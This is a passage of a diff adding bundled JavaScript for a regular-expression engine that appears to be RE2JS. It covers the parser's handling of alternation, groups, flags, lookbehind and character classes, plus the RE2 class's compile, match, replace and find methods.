+        const re = this.newRegexp(Regexp.Op.CONCAT);
+        re.subs = [prefix, suffix];
+        array[lenout++] = re;
+      }
+      start = i;
+      str = istr;
+      strlen = istrlen;
+      strflags = iflags;
+    }
+    lensub = lenout;
+    s = 0;
+    start = 0;
+    lenout = 0;
+    let first = null;
+    for (let i = 0; i <= lensub; i++) {
+      let ifirst = null;
+      if (i < lensub) {
+        ifirst = Parser3.leadingRegexp(array[s + i]);
+        if (first !== null && first.equals(ifirst) && (Parser3.isCharClass(first) || first.op === Regexp.Op.REPEAT && first.min === first.max && Parser3.isCharClass(first.subs[0]))) continue;
+      }
+      if (i === start) {
+      } else if (i === start + 1) array[lenout++] = array[s + start];
+      else {
+        const prefix = first;
+        for (let j = start; j < i; j++) {
+          const reuse = j !== start;
+          array[s + j] = this.removeLeadingRegexp(array[s + j], reuse);
+          this.checkLimits(array[s + j]);
+        }
+        const suffix = this.collapse(array.slice(s + start, s + i), Regexp.Op.ALTERNATE);
+        const re = this.newRegexp(Regexp.Op.CONCAT);
+        re.subs = [prefix, suffix];
+        array[lenout++] = re;
+      }
+      start = i;
+      first = ifirst;
+    }
+    lensub = lenout;
+    s = 0;
+    start = 0;
+    lenout = 0;
+    for (let i = 0; i <= lensub; i++) {
+      if (i < lensub && Parser3.isCharClass(array[s + i])) continue;
+      if (i === start) {
+      } else if (i === start + 1) array[lenout++] = array[s + start];
+      else {
+        let max = start;
+        for (let j = start + 1; j < i; j++) {
+          const subMax = array[s + max];
+          const subJ = array[s + j];
+          if (subMax.op < subJ.op || subMax.op === subJ.op && (subMax.runes !== null ? subMax.runes.length : 0) < (subJ.runes !== null ? subJ.runes.length : 0)) max = j;
+        }
+        const tmp = array[s + start];
+        array[s + start] = array[s + max];
+        array[s + max] = tmp;
+        for (let j = start + 1; j < i; j++) {
+          Parser3.mergeCharClass(array[s + start], array[s + j]);
+          this.reuse(array[s + j]);
+        }
+        this.cleanAlt(array[s + start]);
+        array[lenout++] = array[s + start];
+      }
+      if (i < lensub) array[lenout++] = array[s + i];
+      start = i + 1;
+    }
+    lensub = lenout;
+    s = 0;
+    start = 0;
+    lenout = 0;
+    for (let i = 0; i < lensub; ++i) {
+      if (i + 1 < lensub && array[s + i].op === Regexp.Op.EMPTY_MATCH && array[s + i + 1].op === Regexp.Op.EMPTY_MATCH) continue;
+      array[lenout++] = array[s + i];
+    }
+    lensub = lenout;
+    s = 0;
+    return array.slice(s, lensub);
+  }
+  removeLeadingString(re, n) {
+    if (re.op === Regexp.Op.CONCAT && re.subs.length > 0) {
+      const sub = this.removeLeadingString(re.subs[0], n);
+      re.subs[0] = sub;
+      if (sub.op === Regexp.Op.EMPTY_MATCH) {
+        this.reuse(sub);
+        switch (re.subs.length) {
+          case 0:
+          case 1:
+            re.op = Regexp.Op.EMPTY_MATCH;
+            re.subs = Regexp.emptySubs();
+            break;
+          case 2: {
+            const old = re;
+            re = re.subs[1];
+            this.reuse(old);
+            break;
+          }
+          default:
+            re.subs = re.subs.slice(1, re.subs.length);
+        }
+      }
+      return re;
+    }
+    if (re.op === Regexp.Op.LITERAL) {
+      re.runes = re.runes.slice(n, re.runes.length);
+      if (re.runes.length === 0) re.op = Regexp.Op.EMPTY_MATCH;
+    }
+    return re;
+  }
+  removeLeadingRegexp(re, reuse) {
+    if (re.op === Regexp.Op.CONCAT && re.subs.length > 0) {
+      if (reuse) this.reuse(re.subs[0]);
+      re.subs = re.subs.slice(1, re.subs.length);
+      switch (re.subs.length) {
+        case 0:
+          re.op = Regexp.Op.EMPTY_MATCH;
+          re.subs = Regexp.emptySubs();
+          break;
+        case 1: {
+          const old = re;
+          re = re.subs[0];
+          this.reuse(old);
+          break;
+        }
+      }
+      return re;
+    }
+    if (reuse) this.reuse(re);
+    return this.newRegexp(Regexp.Op.EMPTY_MATCH);
+  }
+  parseInternal() {
+    if ((this.flags & RE2Flags.LITERAL) !== 0) return Parser3.literalRegexp(this.wholeRegexp, this.flags);
+    let lastRepeatPos = -1;
+    let min = -1;
+    let max = -1;
+    const t = new StringIterator(this.wholeRegexp);
+    while (t.more()) {
+      let repeatPos = -1;
+      bigswitch: switch (t.peek()) {
+        case Codepoint.CODES["("]:
+          if ((this.flags & RE2Flags.LOOKBEHIND) !== 0) {
+            if (t.lookingAt("(?<=")) {
+              this.parsePosLookBehind();
+              t.skip(4);
+              break;
+            }
+            if (t.lookingAt("(?<!")) {
+              this.parseNegLookBehind();
+              t.skip(4);
+              break;
+            }
+          }
+          if ((this.flags & RE2Flags.PERL_X) !== 0 && t.lookingAt("(?")) {
+            this.parsePerlFlags(t);
+            break;
+          }
+          this.op(Regexp.Op.LEFT_PAREN).cap = ++this.numCap;
+          t.skip(1);
+          break;
+        case Codepoint.CODES["|"]:
+          this.parseVerticalBar();
+          t.skip(1);
+          break;
+        case Codepoint.CODES[")"]:
+          this.parseRightParen();
+          t.skip(1);
+          break;
+        case Codepoint.CODES["^"]:
+          if ((this.flags & RE2Flags.ONE_LINE) !== 0) this.op(Regexp.Op.BEGIN_TEXT);
+          else this.op(Regexp.Op.BEGIN_LINE);
+          t.skip(1);
+          break;
+        case Codepoint.CODES["$"]:
+          if ((this.flags & RE2Flags.ONE_LINE) !== 0) this.op(Regexp.Op.END_TEXT).flags |= RE2Flags.WAS_DOLLAR;
+          else this.op(Regexp.Op.END_LINE);
+          t.skip(1);
+          break;
+        case Codepoint.CODES["."]:
+          if ((this.flags & RE2Flags.DOT_NL) !== 0) this.op(Regexp.Op.ANY_CHAR);
+          else this.op(Regexp.Op.ANY_CHAR_NOT_NL);
+          t.skip(1);
+          break;
+        case Codepoint.CODES["["]:
+          this.parseClass(t);
+          break;
+        case Codepoint.CODES["*"]:
+        case Codepoint.CODES["+"]:
+        case Codepoint.CODES["?"]: {
+          repeatPos = t.pos();
+          let op = null;
+          switch (t.pop()) {
+            case Codepoint.CODES["*"]:
+              op = Regexp.Op.STAR;
+              break;
+            case Codepoint.CODES["+"]:
+              op = Regexp.Op.PLUS;
+              break;
+            case Codepoint.CODES["?"]:
+              op = Regexp.Op.QUEST;
+          }
+          this.repeat(op, min, max, repeatPos, t, lastRepeatPos);
+          break;
+        }
+        case Codepoint.CODES["{"]: {
+          const before = t.pos();
+          const minMax = Parser3.parseRepeat(t);
+          if (minMax < 0) {
+            t.rewindTo(before);
+            this.literal(t.pop());
+            break;
+          }
+          repeatPos = before;
+          min = minMax >> 16;
+          max = (minMax & Unicode.MAX_BMP) << 16 >> 16;
+          this.repeat(Regexp.Op.REPEAT, min, max, repeatPos, t, lastRepeatPos);
+          break;
+        }
+        case Codepoint.CODES["\\"]: {
+          const savedPos = t.pos();
+          t.skip(1);
+          if ((this.flags & RE2Flags.PERL_X) !== 0 && t.more()) switch (t.pop()) {
+            case Codepoint.CODES["A"]:
+              this.op(Regexp.Op.BEGIN_TEXT);
+              break bigswitch;
+            case Codepoint.CODES["b"]:
+              this.op(Regexp.Op.WORD_BOUNDARY);
+              break bigswitch;
+            case Codepoint.CODES["B"]:
+              this.op(Regexp.Op.NO_WORD_BOUNDARY);
+              break bigswitch;
+            case Codepoint.CODES["C"]:
+              throw new RE2JSSyntaxException(Parser3.ERR_INVALID_ESCAPE, "\\C");
+            case Codepoint.CODES["Q"]: {
+              let lit = t.rest();
+              const i = lit.indexOf("\\E");
+              if (i >= 0) {
+                lit = lit.substring(0, i);
+                t.skipString(lit);
+                t.skipString("\\E");
+              } else t.skipString(lit);
+              let j = 0;
+              while (j < lit.length) {
+                const codepoint = lit.codePointAt(j);
+                this.literal(codepoint);
+                j += Utils.charCount(codepoint);
+              }
+              break bigswitch;
+            }
+            case Codepoint.CODES["z"]:
+              this.op(Regexp.Op.END_TEXT);
+              break bigswitch;
+            default:
+              t.rewindTo(savedPos);
+          }
+          else t.rewindTo(savedPos);
+          const re = this.newRegexp(Regexp.Op.CHAR_CLASS);
+          re.flags = this.flags;
+          if (t.lookingAt("\\p") || t.lookingAt("\\P")) {
+            const cc2 = new CharClass();
+            if (this.parseUnicodeClass(t, cc2)) {
+              re.runes = cc2.toArray();
+              this.push(re);
+              break bigswitch;
+            }
+          }
+          const cc = new CharClass();
+          if (this.parsePerlClassEscape(t, cc)) {
+            re.runes = cc.toArray();
+            this.push(re);
+            break bigswitch;
+          }
+          t.rewindTo(savedPos);
+          this.reuse(re);
+          this.literal(Parser3.parseEscape(t));
+          break;
+        }
+        default:
+          this.literal(t.pop());
+      }
+      lastRepeatPos = repeatPos;
+    }
+    this.concat();
+    if (this.swapVerticalBar()) this.pop();
+    this.alternate();
+    if (this.stack.length !== 1) throw new RE2JSSyntaxException(Parser3.ERR_MISSING_PAREN, this.wholeRegexp);
+    this.stack[0].namedGroups = this.namedGroups;
+    return this.stack[0];
+  }
+  parsePerlFlags(t) {
+    const startPos = t.pos();
+    const s = t.rest();
+    if (s.startsWith("(?P<") || s.startsWith("(?<")) {
+      const begin = s.charAt(2) === "P" ? 4 : 3;
+      const end = s.indexOf(">");
+      if (end < 0) throw new RE2JSSyntaxException(Parser3.ERR_INVALID_NAMED_CAPTURE, s);
+      const name = s.substring(begin, end);
+      t.skipString(name);
+      t.skip(begin + 1);
+      if (!Parser3.isValidCaptureName(name)) throw new RE2JSSyntaxException(Parser3.ERR_INVALID_NAMED_CAPTURE, s.substring(0, end + 1));
+      const re = this.op(Regexp.Op.LEFT_PAREN);
+      re.cap = ++this.numCap;
+      if (this.namedGroups[name]) throw new RE2JSSyntaxException(Parser3.ERR_DUPLICATE_NAMED_CAPTURE, name);
+      this.namedGroups[name] = this.numCap;
+      re.name = name;
+      return;
+    }
+    t.skip(2);
+    let flags = this.flags;
+    let sign = 1;
+    let sawFlag = false;
+    loop: while (t.more()) {
+      const c = t.pop();
+      switch (c) {
+        case Codepoint.CODES["i"]:
+          flags |= RE2Flags.FOLD_CASE;
+          sawFlag = true;
+          break;
+        case Codepoint.CODES["m"]:
+          flags &= ~RE2Flags.ONE_LINE;
+          sawFlag = true;
+          break;
+        case Codepoint.CODES["s"]:
+          flags |= RE2Flags.DOT_NL;
+          sawFlag = true;
+          break;
+        case Codepoint.CODES["U"]:
+          flags |= RE2Flags.NON_GREEDY;
+          sawFlag = true;
+          break;
+        case Codepoint.CODES["-"]:
+          if (sign < 0) break loop;
+          sign = -1;
+          flags = ~flags;
+          sawFlag = false;
+          break;
+        case Codepoint.CODES[":"]:
+        case Codepoint.CODES[")"]:
+          if (sign < 0) {
+            if (!sawFlag) break loop;
+            flags = ~flags;
+          }
+          if (c === Codepoint.CODES[":"]) this.op(Regexp.Op.LEFT_PAREN);
+          this.flags = flags;
+          return;
+        default:
+          break loop;
+      }
+    }
+    throw new RE2JSSyntaxException(Parser3.ERR_INVALID_PERL_OP, t.from(startPos));
+  }
+  parsePosLookBehind() {
+    const re = this.newRegexp(Regexp.Op.LEFT_PAREN);
+    re.flags = this.flags;
+    re.lb = ++this.nlb;
+    return this.push(re);
+  }
+  parseNegLookBehind() {
+    const re = this.newRegexp(Regexp.Op.LEFT_PAREN);
+    re.flags = this.flags;
+    re.lb = -++this.nlb;
+    return this.push(re);
+  }
+  parseVerticalBar() {
+    this.concat();
+    if (!this.swapVerticalBar()) this.op(Regexp.Op.VERTICAL_BAR);
+  }
+  swapVerticalBar() {
+    const n = this.stack.length;
+    if (n >= 3 && this.stack[n - 2].op === Regexp.Op.VERTICAL_BAR && Parser3.isCharClass(this.stack[n - 1]) && Parser3.isCharClass(this.stack[n - 3])) {
+      let re1 = this.stack[n - 1];
+      let re3 = this.stack[n - 3];
+      if (re1.op > re3.op) {
+        const tmp = re3;
+        re3 = re1;
+        re1 = tmp;
+        this.stack[n - 3] = re3;
+      }
+      Parser3.mergeCharClass(re3, re1);
+      this.reuse(re1);
+      this.pop();
+      return true;
+    }
+    if (n >= 2) {
+      const re1 = this.stack[n - 1];
+      const re2 = this.stack[n - 2];
+      if (re2.op === Regexp.Op.VERTICAL_BAR) {
+        if (n >= 3) this.cleanAlt(this.stack[n - 3]);
+        this.stack[n - 2] = re1;
+        this.stack[n - 1] = re2;
+        return true;
+      }
+    }
+    return false;
+  }
+  parseRightParen() {
+    this.concat();
+    if (this.swapVerticalBar()) this.pop();
+    this.alternate();
+    if (this.stack.length < 2) throw new RE2JSSyntaxException(Parser3.ERR_UNEXPECTED_PAREN, this.wholeRegexp);
+    const re1 = this.pop();
+    const re2 = this.pop();
+    if (re2.op !== Regexp.Op.LEFT_PAREN) throw new RE2JSSyntaxException(Parser3.ERR_UNEXPECTED_PAREN, this.wholeRegexp);
+    this.flags = re2.flags;
+    if (re2.lb !== 0) {
+      if (Parser3.hasCapture(re1)) throw new RE2JSSyntaxException(Parser3.ERR_INVALID_CAPTURE_IN_LOOKBEHIND, this.wholeRegexp);
+      if (re2.lb > 0) re2.op = Regexp.Op.PLB;
+      else re2.op = Regexp.Op.NLB;
+      re2.subs = [re1];
+      this.push(re2);
+      return;
+    }
+    if (re2.cap === 0) this.push(re1);
+    else {
+      re2.op = Regexp.Op.CAPTURE;
+      re2.subs = [re1];
+      this.push(re2);
+    }
+  }
+  parsePerlClassEscape(t, cc) {
+    const beforePos = t.pos();
+    if ((this.flags & RE2Flags.PERL_X) === 0 || !t.more() || t.pop() !== Codepoint.CODES["\\"] || !t.more()) return false;
+    t.pop();
+    const p = t.from(beforePos);
+    const g = PERL_GROUPS.has(p) ? PERL_GROUPS.get(p) : null;
+    if (g === null) return false;
+    cc.appendGroup(g, (this.flags & RE2Flags.FOLD_CASE) !== 0);
+    return true;
+  }
+  parseNamedClass(t, cc) {
+    const cls = t.rest();
+    const i = cls.indexOf(":]");
+    if (i < 0) return false;
+    const name = cls.substring(0, i + 2);
+    t.skipString(name);
+    const g = POSIX_GROUPS.has(name) ? POSIX_GROUPS.get(name) : null;
+    if (g === null) throw new RE2JSSyntaxException(Parser3.ERR_INVALID_CHAR_RANGE, name);
+    cc.appendGroup(g, (this.flags & RE2Flags.FOLD_CASE) !== 0);
+    return true;
+  }
+  parseUnicodeClass(t, cc) {
+    const startPos = t.pos();
+    if ((this.flags & RE2Flags.UNICODE_GROUPS) === 0 || !t.lookingAt("\\p") && !t.lookingAt("\\P")) return false;
+    t.skip(1);
+    let sign = 1;
+    let c = t.pop();
+    if (c === Codepoint.CODES["P"]) sign = -1;
+    if (!t.more()) {
+      t.rewindTo(startPos);
+      throw new RE2JSSyntaxException(Parser3.ERR_INVALID_CHAR_RANGE, t.rest());
+    }
+    c = t.pop();
+    let name;
+    if (c !== Codepoint.CODES["{"]) name = Utils.runeToString(c);
+    else {
+      const rest = t.rest();
+      const end = rest.indexOf("}");
+      if (end < 0) {
+        t.rewindTo(startPos);
+        throw new RE2JSSyntaxException(Parser3.ERR_INVALID_CHAR_RANGE, t.rest());
+      }
+      name = rest.substring(0, end);
+      t.skipString(name);
+      t.skip(1);
+    }
+    if (!(name.length === 0) && name.codePointAt(0) === Codepoint.CODES["^"]) {
+      sign = 0 - sign;
+      name = name.substring(1);
+    }
+    const pair = Parser3.unicodeTable(name);
+    if (pair === null) throw new RE2JSSyntaxException(Parser3.ERR_INVALID_CHAR_RANGE, t.from(startPos));
+    if (pair.sign < 0) sign = 0 - sign;
+    const tab = pair.tab;
+    const fold = pair.fold;
+    if ((this.flags & RE2Flags.FOLD_CASE) === 0 || fold === null) cc.appendTableWithSign(tab, sign);
+    else {
+      const tmp = new CharClass().appendTable(tab).appendTable(fold).cleanClass().toArray();
+      cc.appendClassWithSign(Array.from(tmp), sign);
+    }
+    return true;
+  }
+  parseClass(t) {
+    const startPos = t.pos();
+    t.skip(1);
+    const re = this.newRegexp(Regexp.Op.CHAR_CLASS);
+    re.flags = this.flags;
+    const cc = new CharClass();
+    let sign = 1;
+    if (t.more() && t.lookingAt("^")) {
+      sign = -1;
+      t.skip(1);
+      if ((this.flags & RE2Flags.CLASS_NL) === 0) cc.appendRange(Codepoint.CODES["\n"], Codepoint.CODES["\n"]);
+    }
+    let first = true;
+    while (!t.more() || t.peek() !== Codepoint.CODES["]"] || first) {
+      if (t.more() && t.lookingAt("-") && (this.flags & RE2Flags.PERL_X) === 0 && !first) {
+        const s = t.rest();
+        if (s === "-" || !s.startsWith("-]")) {
+          t.rewindTo(startPos);
+          throw new RE2JSSyntaxException(Parser3.ERR_INVALID_CHAR_RANGE, t.rest());
+        }
+      }
+      first = false;
+      const beforePos = t.pos();
+      if (t.lookingAt("[:")) {
+        if (this.parseNamedClass(t, cc)) continue;
+        t.rewindTo(beforePos);
+      }
+      if (this.parseUnicodeClass(t, cc)) continue;
+      if (this.parsePerlClassEscape(t, cc)) continue;
+      t.rewindTo(beforePos);
+      const lo = Parser3.parseClassChar(t, startPos);
+      let hi = lo;
+      if (t.more() && t.lookingAt("-")) {
+        t.skip(1);
+        if (t.more() && t.lookingAt("]")) t.skip(-1);
+        else {
+          hi = Parser3.parseClassChar(t, startPos);
+          if (hi < lo) throw new RE2JSSyntaxException(Parser3.ERR_INVALID_CHAR_RANGE, t.from(beforePos));
+        }
+      }
+      if ((this.flags & RE2Flags.FOLD_CASE) === 0) cc.appendRange(lo, hi);
+      else cc.appendFoldedRange(lo, hi);
+    }
+    t.skip(1);
+    cc.cleanClass();
+    if (sign < 0) cc.negateClass();
+    re.runes = cc.toArray();
+    this.push(re);
+  }
+};
+var RE2 = class RE22 {
+  static initTest(expr) {
+    const re2 = RE22.compile(expr);
+    const res = new RE22(re2.expr, re2.prog, re2.numSubexp, re2.longest);
+    res.cond = re2.cond;
+    res.prefix = re2.prefix;
+    res.prefixUTF8 = re2.prefixUTF8;
+    res.prefixComplete = re2.prefixComplete;
+    res.prefixRune = re2.prefixRune;
+    res.prefilter = re2.prefilter;
+    res.namedGroups = re2.namedGroups;
+    return res;
+  }
+  /**
+  * Parses a regular expression and returns, if successful, an {@code RE2} instance that can be
+  * used to match against text.
+  *
+  * When matching against text, the regexp returns a match that begins as early as possible in the
+  * input (leftmost), and among those it chooses the one that a backtracking search would have
+  * found first. This so-called leftmost-first matching is the same semantics that Perl, Python,
+  * and other implementations use, although this package implements it without the expense of
+  * backtracking. For POSIX leftmost-longest matching, see {@link #compilePOSIX}.
+  */
+  static compile(expr) {
+    return RE22.compileImpl(expr, RE2Flags.PERL, false);
+  }
+  /**
+  * {@code compilePOSIX} is like {@link #compile} but restricts the regular expression to POSIX ERE
+  * (egrep) syntax and changes the match semantics to leftmost-longest.
+  *
+  * That is, when matching against text, the regexp returns a match that begins as early as
+  * possible in the input (leftmost), and among those it chooses a match that is as long as
+  * possible. This so-called leftmost-longest matching is the same semantics that early regular
+  * expression implementations used and that POSIX specifies.
+  *
+  * However, there can be multiple leftmost-longest matches, with different submatch choices, and
+  * here this package diverges from POSIX. Among the possible leftmost-longest matches, this
+  * package chooses the one that a backtracking search would have found first, while POSIX
+  * specifies that the match be chosen to maximize the length of the first subexpression, then the
+  * second, and so on from left to right. The POSIX rule is computationally prohibitive and not
+  * even well-defined. See http://swtch.com/~rsc/regexp/regexp2.html#posix
+  */
+  static compilePOSIX(expr) {
+    return RE22.compileImpl(expr, RE2Flags.POSIX, true);
+  }
+  static compileImpl(expr, mode, longest) {
+    let re = Parser2.parse(expr, mode);
+    const maxCap = re.maxCap();
+    const namedGroups = re.namedGroups;
+    re = Simplify.simplify(re);
+    const prefilter = PrefilterTree.build(re);
+    const prog = Compiler.compileRegexp(re);
+    const re2 = new RE22(expr, prog, maxCap, longest);
+    re2.prefilter = prefilter.type === Prefilter.Type.NONE ? null : prefilter;
+    const [prefixCompl, prefixStr] = prog.prefix();
+    re2.prefixComplete = prefixCompl;
+    re2.prefix = prefixStr;
+    re2.prefixUTF8 = Utils.stringToUtf8ByteArray(re2.prefix);
+    if (re2.prefix.length > 0) re2.prefixRune = re2.prefix.codePointAt(0);
+    re2.namedGroups = namedGroups;
+    return re2;
+  }
+  /**
+  * Returns true iff textual regular expression {@code pattern} matches string {@code s}.
+  *
+  * More complicated queries need to use {@link #compile} and the full {@code RE2} interface.
+  */
+  static match(pattern, s) {
+    return RE22.compile(pattern).match(s);
+  }
+  constructor(expr, prog, numSubexp = 0, longest = 0) {
+    this.expr = expr;
+    this.prog = prog;
+    this.numSubexp = numSubexp;
+    this.longest = longest;
+    this.cond = prog.startCond();
+    this.prefix = null;
+    this.prefixUTF8 = null;
+    this.prefixComplete = false;
+    this.prefixRune = 0;
+    this.namedGroups = /* @__PURE__ */ Object.create(null);
+    this.machinePool = [];
+    this.lazyDFA = null;
+    this.onepass = OnePass.compile(this.prog);
+    this.prefilter = null;
+  }
+  get dfa() {
+    if (this.lazyDFA === null) this.lazyDFA = new DFA(this.prog);
+    return this.lazyDFA;
+  }
+  matchPrefixComplete(input, pos, anchor2, ncap) {
+    if ((anchor2 === RE2Flags.ANCHOR_START || anchor2 === RE2Flags.ANCHOR_BOTH) && pos !== 0) return null;
+    let matchStart = -1;
+    let matchEnd = -1;
+    const pLen = input.prefixLength(this);
+    if (anchor2 === RE2Flags.UNANCHORED) {
+      const idx = input.index(this, pos);
+      if (idx < 0) return null;
+      matchStart = pos + idx;
+      matchEnd = matchStart + pLen;
+    } else if (anchor2 === RE2Flags.ANCHOR_BOTH) {
+      if (input.endPos() !== pLen) return null;
+      if (input.index(this, 0) !== 0) return null;
+      matchStart = 0;
+      matchEnd = pLen;
+    } else if (anchor2 === RE2Flags.ANCHOR_START) {
+      if (input.index(this, 0) !== 0) return null;
+      matchStart = 0;
+      matchEnd = pLen;
+    }
+    if (matchStart < 0) return null;
+    if (ncap > 0) {
+      const matchcap = new Int32Array(ncap).fill(-1);
+      matchcap[0] = matchStart;
+      matchcap[1] = matchEnd;
+      return Array.from(matchcap);
+    }
+    return [];
+  }
+  createLookbehindState() {
+    return this.prog.numLb > 0 ? new LookbehindState(this.prog) : null;
+  }
+  executeEngine(input, pos, anchor2, ncap, lbState = null) {
+    if (this.prefixComplete && (ncap === 0 || this.numSubexp === 0)) return this.matchPrefixComplete(input, pos, anchor2, ncap);
+    if (this.prefilter !== null && anchor2 === RE2Flags.UNANCHORED) {
+      if (!this.prefilter.eval(input, pos)) return null;
+    }
+    if (this.onepass !== null) return OnePass.execute(this, input, pos, anchor2, ncap);
+    if (ncap > 0) {
+      if (this.prog.numLb === 0 && input.endPos() <= Backtracker.maxBitStateLen(this.prog)) return Backtracker.execute(this, input, pos, anchor2, ncap);
+      return this.doExecuteNFA(input, pos, anchor2, ncap, lbState);
+    }
+    if (this.prog.numLb === 0) {
+      const dfaResult = this.dfa.match(input, pos, anchor2);
+      if (dfaResult !== null) return dfaResult ? [] : null;
+      if (input.endPos() <= Backtracker.maxBitStateLen(this.prog)) return Backtracker.execute(this, input, pos, anchor2, ncap);
+    }
+    return this.doExecuteNFA(input, pos, anchor2, ncap, lbState);
+  }
+  /**
+  * Returns the number of parenthesized subexpressions in this regular expression.
+  */
+  numberOfCapturingGroups() {
+    return this.numSubexp;
+  }
+  /**
+  * Returns the number of instructions in this compiled regular expression program.
+  */
+  numberOfInstructions() {
+    return this.prog.numInst();
+  }
+  get() {
+    return this.machinePool.length > 0 ? this.machinePool.pop() : null;
+  }
+  reset() {
+    this.machinePool.length = 0;
+  }
+  put(m) {
+    this.machinePool.push(m);
+  }
+  toString() {
+    return this.expr;
+  }
+  doExecuteNFA(input, pos, anchor2, ncap, lbState = null) {
+    let m = this.get();
+    if (!m) m = Machine.fromRE2(this);
+    m.init(ncap);
+    const cap = m.match(input, pos, anchor2, lbState) ? m.submatches() : null;
+    this.put(m);
+    return cap;
+  }
+  match(s) {
+    return this.executeEngine(MachineInput.fromUTF16(s), 0, RE2Flags.UNANCHORED, 0) !== null;
+  }
+  /**
+  * Matches the regular expression against input starting at position start and ending at position
+  * end, with the given anchoring. Records the submatch boundaries in group, which is [start, end)
+  * pairs of byte offsets. The number of boundaries needed is inferred from the size of the group
+  * array. It is most efficient not to ask for submatch boundaries.
+  *
+  * @param input the input byte array
+  * @param start the beginning position in the input
+  * @param end the end position in the input
+  * @param anchor the anchoring flag (UNANCHORED, ANCHOR_START, ANCHOR_BOTH)
+  * @param group the array to fill with submatch positions
+  * @param ngroup the number of array pairs to fill in
+  * @param lbState optional state carried between successive matches over the same input (see
+  *   createLookbehindState); omit it to evaluate lookbehinds from the beginning of the input
+  * @returns true if a match was found
+  */
+  matchWithGroup(input, start, end, anchor2, ngroup, lbState = null) {
+    if (!(input instanceof MatcherInputBase)) {
+      if (Utils.isByteArray(input)) input = MatcherInput.utf8(input);
+      else input = MatcherInput.utf16(input);
+    }
+    return this.matchMachineInput(input, start, end, anchor2, ngroup, lbState);
+  }
+  matchMachineInput(input, start, end, anchor2, ngroup, lbState = null) {
+    if (start > end) return [false, null];
+    const machineInput = input.isUTF16Encoding() ? MachineInput.fromUTF16(input.asCharSequence(), 0, end) : MachineInput.fromUTF8(input.asBytes(), 0, end);
+    const groupMatch = this.executeEngine(machineInput, start, anchor2, 2 * ngroup, lbState);
+    if (groupMatch === null) return [false, null];
+    return [true, groupMatch];
+  }
+  /**
+  * Returns true iff this regexp matches the UTF-8 byte array {@code b}.
+  */
+  matchUTF8(b) {
+    return this.executeEngine(MachineInput.fromUTF8(b), 0, RE2Flags.UNANCHORED, 0) !== null;
+  }
+  /**
+  * Returns a copy of {@code src} in which all matches for this regexp have been replaced by
+  * {@code repl}. No support is provided for expressions (e.g. {@code \1} or {@code $1}) in the
+  * replacement string.
+  */
+  replaceAll(src, repl) {
+    return this.replaceAllFunc(src, () => repl, 2 * src.length + 1);
+  }
+  /**
+  * Returns a copy of {@code src} in which only the first match for this regexp has been replaced
+  * by {@code repl}. No support is provided for expressions (e.g. {@code \1} or {@code $1}) in the
+  * replacement string.
+  */
+  replaceFirst(src, repl) {
+    return this.replaceAllFunc(src, () => repl, 1);
+  }
+  /**
+  * Returns a copy of {@code src} in which at most {@code maxReplaces} matches for this regexp have
+  * been replaced by the return value of of function {@code repl} (whose first argument is the
+  * matched string). No support is provided for expressions (e.g. {@code \1} or {@code $1}) in the
+  * replacement string.
+  */
+  replaceAllFunc(src, replFunc, maxReplaces) {
+    let lastMatchEnd = 0;
+    let searchPos = 0;
+    let out = "";
+    const input = MachineInput.fromUTF16(src);
+    const lbState = this.createLookbehindState();
+    let numReplaces = 0;
+    while (searchPos <= src.length) {
+      const a = this.executeEngine(input, searchPos, RE2Flags.UNANCHORED, 2, lbState);
+      if (a === null || a.length === 0) break;
+      out += src.substring(lastMatchEnd, a[0]);
+      if (a[1] > lastMatchEnd || a[0] === 0) {
+        out += replFunc(src.substring(a[0], a[1]));
+        numReplaces++;
+      }
+      lastMatchEnd = a[1];
+      const width = input.step(searchPos) & 7;
+      if (searchPos + width > a[1]) searchPos += width;
+      else if (searchPos + 1 > a[1]) searchPos++;
+      else searchPos = a[1];
+      if (numReplaces >= maxReplaces) break;
+    }
+    out += src.substring(lastMatchEnd);
+    return out;
+  }
+  pad(a) {
+    if (a === null) return null;
+    let n = (1 + this.numSubexp) * 2;
+    if (a.length < n) {
+      let a2 = new Array(n).fill(-1);
+      for (let i = 0; i < a.length; i++) a2[i] = a[i];
+      a = a2;
+    }
+    return a;
+  }
+  allMatches(input, n, deliverFun = (v) => v) {
+    let result = [];
+    const end = input.endPos();
+    if (n < 0) n = end + 1;
+    let pos = 0;
+    let i = 0;
+    let prevMatchEnd = -1;
+    const lbState = this.createLookbehindState();
+    while (i < n && pos <= end) {
+      const matches3 = this.executeEngine(input, pos, RE2Flags.UNANCHORED, this.prog.numCap, lbState);
+      if (matches3 === null || matches3.length === 0) break;
+      let accept = true;
+      if (matches3[1] === pos) {
+        if (matches3[0] === prevMatchEnd) accept = false;
+        const r = input.step(pos);
+        if (r < 0) pos = end + 1;
+        else pos += r & 7;
+      } else pos = matches3[1];
+      prevMatchEnd = matches3[1];
+      if (accept) {
+        result.push(deliverFun(this.pad(matches3)));
+        i++;
+      }
+    }
+    return result;
+  }
+  /**
+  * Returns an array holding the text of the leftmost match in {@code b} of this regular
+  * expression.
+  *
+  * A return value of null indicates no match.
+  */
+  findUTF8(b) {
+    const a = this.executeEngine(MachineInput.fromUTF8(b), 0, RE2Flags.UNANCHORED, 2);
+    if (a === null) return null;
+    return b.slice(a[0], a[1]);
+  }
+  /**
+  * Returns a two-element array of integers defining the location of the leftmost match in
+  * {@code b} of this regular expression. The match itself is at {@code b[loc[0]...loc[1]]}.
+  *
+  * A return value of null indicates no match.
+  */
+  findUTF8Index(b) {
+    const a = this.executeEngine(MachineInput.fromUTF8(b), 0, RE2Flags.UNANCHORED, 2);
+    if (a === null) return null;
+    return a.slice(0, 2);
+  }
+  /**
+  * Returns a string holding the text of the leftmost match in {@code s} of this regular
+  * expression.
+  *
+  * If there is no match, the return value is an empty string, but it will also be empty if the
+  * regular expression successfully matches an empty string. Use {@link #findIndex} or
+  * {@link #findSubmatch} if it is necessary to distinguish these cases.
+  */
+  find(s) {
+    const a = this.executeEngine(MachineInput.fromUTF16(s), 0, RE2Flags.UNANCHORED, 2);
+    if (a === null) return "";
+    return s.substring(a[0], a[1]);
+  }
+  /**
+  * Returns a two-element array of integers defining the location of the leftmost match in
+  * {@code s} of this regular expression. The match itself is at
+  * {@code s.substring(loc[0], loc[1])}.
+  *
+  * A return value of null indicates no match.
+  */
+  findIndex(s) {
+    return this.executeEngine(MachineInput.fromUTF16(s), 0, RE2Flags.UNANCHORED, 2);
+  }
+  /**
+  * Returns an array of arrays the text of the leftmost match of the regular expression in
+  * {@code b} and the matches, if any, of its subexpressions, as defined by the <a
+  * href='#submatch'>Submatch</a> description above.
+  *
+  * A return value of null indicates no match.
+  */
+  findUTF8Submatch(b) {
